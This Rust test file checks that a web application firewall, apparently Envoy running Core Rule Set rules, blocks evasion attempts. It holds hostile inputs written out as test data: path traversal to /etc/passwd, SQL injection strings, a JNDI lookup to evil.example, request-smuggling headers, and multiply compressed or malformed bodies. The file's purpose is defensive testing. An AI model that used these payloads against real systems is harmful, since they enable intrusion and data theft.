//! Ways round the rules, each by name: none of these attacks may reach the backend.

use std::io::Write as _;

use http::StatusCode;
use testbed::client::{GrpcRequest, Request, tcp_line};

use crate::envoy::{Edge, INJECTION};
use crate::house::Service;

const SQL: &str = "1' OR '1'='1'-- -";

async fn usual() -> (Service, Edge) {
    let service = Service::start(&[], "").await;
    let edge = Edge::start(&service).await;
    (service, edge)
}

/// The status of a request that is written by hand: its first line, more headers, and what comes after the head.
async fn raw(edge: &Edge, first: &str, headers: &[&str], rest: &str) -> u16 {
    let more: String = headers.iter().map(|header| format!("{header}\r\n")).collect();
    let text = format!("{first}\r\nhost: shop.example\r\nuser-agent: tests\r\naccept: */*\r\n{more}\r\n{rest}");
    let line = tcp_line(edge.address, &text).await.unwrap();
    line.split(' ').nth(1).and_then(|status| status.parse().ok()).unwrap_or_else(|| panic!("{line}"))
}

fn chunked(body: &str, size: usize) -> String {
    let chunks: String = body
        .as_bytes()
        .chunks(size)
        .map(|chunk| format!("{:x}\r\n{}\r\n", chunk.len(), String::from_utf8_lossy(chunk)))
        .collect();
    chunks + "0\r\n"
}

const FORM: &str = "content-type: application/x-www-form-urlencoded";
const CHUNKED: &str = "transfer-encoding: chunked";

#[tokio::test]
async fn overlong_utf8_zeros_and_encoded_slashes() {
    let (_service, edge) = usual().await;
    for target in [
        "/?file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "/?file=..%2f..%2f..%2fetc%2fpasswd",
        "/?file=..%252f..%252fetc%252fpasswd",
        "/?file=/etc/passwd%00.png",
        "/..;/..;/etc/passwd?a=%00",
        "/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    ] {
        let status = raw(&edge, &format!("GET {target} HTTP/1.1"), &[], "").await;
        assert!((400..500).contains(&status), "{target}: {status}");
    }
    assert_eq!(edge.backend.count(), 0);
    assert_eq!(edge.get("/?file=a%2fb.png").await.status, StatusCode::OK);
}

#[tokio::test]
async fn content_types_that_are_several_odd_or_missing() {
    let (_service, edge) = usual().await;
    let body = format!("id={INJECTION}");
    let length = format!("content-length: {}", body.len());
    for kinds in [
        &["content-type: text/plain", FORM][..],
        &[FORM, "content-type: image/png"],
        &["content-type: image/png, application/x-www-form-urlencoded"],
        &["content-type: application/x-www-form-urlencoded;charset=utf-7"],
        &["content-type: Application/X-WWW-Form-Urlencoded ; charset=\"ibm037\""],
        &["content-type: application/grpc"],
        &["content-type: text/event-stream"],
        &["content-type: x/y;application/x-www-form-urlencoded"],
        &["content-type:"],
        &[],
    ] {
        let headers: Vec<&str> = kinds.iter().copied().chain([length.as_str()]).collect();
        let status = raw(&edge, "POST / HTTP/1.1", &headers, &body).await;
        // To what says that it is gRPC, Envoy gives every answer with 200.
        let grpc = kinds.iter().any(|kind| kind.ends_with("grpc"));
        assert!(grpc || (400..500).contains(&status), "{kinds:?}: {status}");
    }
    assert_eq!(edge.backend.count(), 0);
    assert_eq!(edge.post("application/x-www-form-urlencoded; charset=utf-8", "a=b").await.status, StatusCode::OK);
}

#[tokio::test]
async fn what_says_that_it_is_grpc_and_comes_by_http1() {
    // The Core Rule Set takes no gRPC, so it has to be told to.
    let profile = "name: grpc\nexclusions: [{rules: [920420]}]\n";
    let service = Service::start(&[("grpc.yaml", profile)], "defaultProfile: grpc\n").await;
    let edge = Edge::start(&service).await;
    edge.post("application/grpc", format!("id={INJECTION}")).await;
    assert_eq!(edge.backend.count(), 0);
    let call = GrpcRequest::new("http://shop.example/a.B/C").to(edge.address).header("user-agent", "tests");
    call.send().await.unwrap();
    assert_eq!(edge.backend.count(), 1);
}

#[tokio::test]
async fn multipart_boundaries_headers_and_charsets() {
    let (_service, edge) = usual().await;
    let part = |headers: &str, boundary: &str| {
        format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"a\"{headers}\r\n\r\n{SQL}\r\n--{boundary}--\r\n"
        )
    };
    let harmless = "--x\r\nContent-Disposition: form-data; name=\"b\"\r\n\r\nb\r\n";
    let utf7 = "--x\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADw-script+AD4-\r\n";
    for (kind, body) in [
        ("multipart/form-data; boundary=x", part("", "x")),
        ("multipart/form-data; boundary=x; boundary=y", part("", "y")),
        ("multipart/form-data; boundary=\"x\"", part("", "x")),
        ("multipart/form-data", part("", "x")),
        ("multipart/form-data; boundary=y", part("", "x")),
        ("multipart/form-data; boundary=x", part("; name=\"b\"", "x")),
        ("multipart/form-data; boundary=x", part("\r\nContent-Transfer-Encoding: base64", "x")),
        ("multipart/form-data; boundary=x", part("", "x").replace("\r\n", "\n")),
        ("multipart/form-data; boundary=x", part("", "x").replace("--x--\r\n", "")),
        // The charset of an earlier part must not be lost behind that of a later one.
        ("multipart/form-data; boundary=x", format!("{utf7}{harmless}--x--\r\n")),
    ] {
        let answer = edge.post(kind, body.clone()).await;
        assert!(answer.status.is_client_error(), "{kind} {body:?}: {}", answer.status);
    }
    assert_eq!(edge.backend.count(), 0);
    assert_eq!(
        edge.post("multipart/form-data; boundary=x", format!("{harmless}--x--\r\n")).await.status,
        StatusCode::OK
    );
}

#[tokio::test]
async fn json_of_any_depth_invalid_and_with_keys_twice() {
    let (_service, edge) = usual().await;
    let nested = |depth: usize, value: &str| format!("{}{value}{}", r#"{"a":"#.repeat(depth), "}".repeat(depth));
    let text = format!("\"{SQL}\"");
    for depth in [1, 10, 100, 500, 600, 1000, 10_000] {
        let answer = edge.post("application/json", nested(depth, &text)).await;
        assert!(answer.status.is_client_error(), "{depth}: {}", answer.status);
    }
    for body in [
        format!(r#"{{"a": {text}, "a": "b"}}"#),
        format!(r#"{{"a": "b", "a": {text}}}"#),
        format!(r#"{{"a": "b", "A": {text}}}"#),
        format!(r#"{{"a": {text}"#),
        format!(r#"{{"a": "b"}} {{"a": {text}}}"#),
        format!("{{'a': {text}}}"),
        r#"{"a": "1\u0027 OR \u00271\u0027=\u00271\u0027-- -"}"#.to_owned(),
        format!("\u{feff}{{\"a\": {text}}}"),
    ] {
        let answer = edge.post("application/vnd.api+json", body.clone()).await;
        assert!(answer.status.is_client_error(), "{body}: {}", answer.status);
        let answer = edge.post("application/json", body.clone()).await;
        assert!(answer.status.is_client_error(), "{body}: {}", answer.status);
    }
    assert_eq!(edge.backend.count(), 0);
    assert_eq!(edge.post("application/json", nested(20, "\"b\"")).await.status, StatusCode::OK);
}

#[tokio::test]
async fn bodies_in_chunks_of_one_to_eight_bytes() {
    let (_service, edge) = usual().await;
    for size in 1..=8 {
        let attack = chunked(&format!("a=b&id={INJECTION}"), size) + "\r\n";
        assert_eq!(raw(&edge, "POST / HTTP/1.1", &[FORM, CHUNKED], &attack).await, 403, "{size}");
    }
    assert_eq!(edge.backend.count(), 0);
    assert_eq!(raw(&edge, "POST / HTTP/1.1", &[FORM, CHUNKED], &(chunked("a=b", 1) + "\r\n")).await, 200);
}

#[tokio::test]
async fn packed_in_each_other() {
    let profile = "name: packed\nexclusions: [{rules: [920450]}]\n";
    let service = Service::start(&[("packed.yaml", profile)], "defaultProfile: packed\n").await;
    let edge = Edge::start(&service).await;
    let gzip = |body: &[u8]| {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        encoder.write_all(body).unwrap();
        encoder.finish().unwrap()
    };
    let zlib = |body: &[u8]| {
        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        encoder.write_all(body).unwrap();
        encoder.finish().unwrap()
    };
    let attack = format!("id={INJECTION}").into_bytes();
    let once = gzip(&attack);
    for (encodings, body) in [
        (&["deflate"][..], zlib(&attack)),
        (&["gzip, gzip"], gzip(&once)),
        (&["gzip", "gzip"], gzip(&once)),
        (&["deflate, gzip"], gzip(&zlib(&attack))),
        (&["identity, gzip"], once.clone()),
        (&["gzip, gzip, gzip, gzip"], gzip(&gzip(&gzip(&once)))),
        (&["gzip;q=1"], once.clone()),
    ] {
        let mut request = Request::post(&edge.url("/"), body)
            .header("user-agent", "tests")
            .header("content-type", "application/x-www-form-urlencoded");
        for encoding in encodings {
            request = request.header("content-encoding", encoding);
        }
        let status = request.send().await.unwrap().status;
        assert!(status.is_client_error(), "{encodings:?}: {status}");
    }
    assert_eq!(edge.backend.count(), 0);
}

#[tokio::test]
async fn trailers() {
    let (_service, edge) = usual().await;
    let with = |trailer: &str| chunked("a=b", 3) + trailer + "\r\n\r\n";
    let send = async |kind: &str, rest: String| raw(&edge, "POST / HTTP/1.1", &[kind, CHUNKED], &rest).await;
    assert_eq!(send(FORM, with("x-note: ${jndi:ldap://evil.example/a}")).await, 403);
    // A body that ends with trailers is looked at like any other.
    assert_eq!(send(FORM, chunked(&format!("id={INJECTION}"), 5) + "x-note: fine\r\n\r\n").await, 403);
    assert_eq!(edge.backend.count(), 0);
    assert_eq!(send(FORM, with("x-note: fine")).await, 200);
}

#[tokio::test]
async fn a_score_in_parts_by_body_and_trailers() {
    // Three points each, of the five that are too many.
    let rule = |number: u32, place: &str| {
        format!(
            "  SecRule {place} \"@streq odd\" \"id:{number},phase:2,pass,severity:WARNING,\
             setvar:tx.inbound_anomaly_score_pl1=+%{{tx.warning_anomaly_score}}\"\n"
        )
    };
    // That the body comes in chunks must not score: Envoy keeps the field that says so to itself.
    let profile = format!("name: parts\nbefore: |\n{}{}", rule(1, "ARGS:a"), rule(2, "REQUEST_HEADERS:x-note"));
    let service = Service::start(&[("parts.yaml", &profile)], "defaultProfile: parts\n").await;
    let edge = Edge::start(&service).await;
    let send = async |body: &str, trailer: &str| {
        let rest = chunked(body, 3) + trailer + "\r\n\r\n";
        raw(&edge, "POST / HTTP/1.1", &[FORM, CHUNKED], &rest).await
    };
    assert_eq!(send("a=odd", "x-note: fine").await, 200, "{:?}", service.entries());
    assert_eq!(send("a=even", "x-note: odd").await, 200, "{:?}", service.entries());
    assert_eq!(send("a=odd", "x-note: odd").await, 403);
    let entry = service.entry("both parts", |entry| entry["verdict"] == "block").await;
    let rules: Vec<u64> = entry["rules"].as_array().unwrap().iter().filter_map(|rule| rule["rule"].as_u64()).collect();
    assert!(rules.contains(&1) && rules.contains(&2), "{entry}");
    assert_eq!((entry["score"].as_i64(), edge.backend.count()), (Some(6), 2));
}

#[tokio::test]
async fn an_exclusion_and_paths_that_climb_out_of_it() {
    let profile = "name: blog\ncoreRules: {version: none}\nexclusions: [{rules: [1], path: /blog}]\n\
                   directives: |\n  SecRule ARGS:id \"@streq x\" \"id:1,phase:1,deny\"\n";
    let service = Service::start(&[("blog.yaml", profile)], "defaultProfile: blog\n").await;
    let edge = Edge::start(&service).await;
    for target in [
        "/blogs",
        "/blog/../admin",
        "/blog/..%2fadmin",
        "/blog/%2e%2e/admin",
        "/blog/.%2E%2Fadmin",
        "/blog/..;/admin",
        "/blog/..%5cadmin",
        "/blog/%252e%252e/admin",
        "/%2e/blog/a/../../admin",
        "/x/..%2fblog",
    ] {
        assert_eq!(raw(&edge, &format!("GET {target}?id=x HTTP/1.1"), &[], "").await, 403, "{target}");
    }
    assert_eq!(edge.backend.count(), 0);
    for target in ["/blog", "/blog/", "/blog/a.b?c=..", "/shop/../blog/a", "//blog"] {
        let query = if target.contains('?') { "&id=x" } else { "?id=x" };
        assert_eq!(edge.get(&format!("{target}{query}")).await.status, StatusCode::OK, "{target}");
    }
}

#[tokio::test]
async fn headers_that_smuggle() {
    let (_service, edge) = usual().await;
    let inner = "0\r\n\r\nGET /admin HTTP/1.1\r\nhost: a\r\n\r\n";
    for headers in [
        &["content-length: 6", CHUNKED][..],
        &["content-length: 6", "content-length: 7"],
        &["transfer-encoding: chunked", "transfer-encoding: identity"],
        &["transfer-encoding: gzip, chunked"],
        &["transfer-encoding: xchunked"],
        &["transfer-encoding : chunked"],
        &["content-length: +6"],
    ] {
        let status = raw(&edge, "POST / HTTP/1.1", headers, inner).await;
        assert!((400..600).contains(&status), "{headers:?}: {status}");
    }
    assert_eq!(edge.backend.count(), 0);
}

#[tokio::test]
async fn a_thousand_headers_or_parameters() {
    let (_service, edge) = usual().await;
    let headers: Vec<String> = (0..1000).map(|number| format!("x-{number}: a")).collect();
    let headers: Vec<&str> = headers.iter().map(String::as_str).collect();
    let status = raw(&edge, "GET / HTTP/1.1", &headers, "").await;
    assert!((400..500).contains(&status), "{status}");
    let many = "a=b&".repeat(1100) + &format!("id={INJECTION}");
    assert!(edge.form(many).await.is_client_error());
    let json = format!("[{}\"{SQL}\"]", "1,".repeat(1100));
    assert!(edge.post("application/json", json).await.status.is_client_error());
    assert_eq!(edge.backend.count(), 0);
}

#[tokio::test]
async fn what_envoy_could_not_hold_is_not_taken_for_the_whole() {
    let service = Service::start(&[], "").await;
    let filter = serde_json::json!({
        "allow_mode_override": false,
        "processing_mode": { "request_header_mode": "SEND", "response_header_mode": "SKIP",
            "request_body_mode": "BUFFERED_PARTIAL" },
    });
    let edge = Edge::with(&service, &filter, &serde_json::json!({ "per_request_buffer_limit_bytes": 1024 })).await;
    let long = format!("pad={}&id={INJECTION}", "a".repeat(100_000));
    let status = edge.form(long).await;
    assert!(status.is_client_error(), "{status}");
    assert_eq!(edge.form("a=b").await, StatusCode::OK);
    assert_eq!(edge.backend.count(), 1);
}
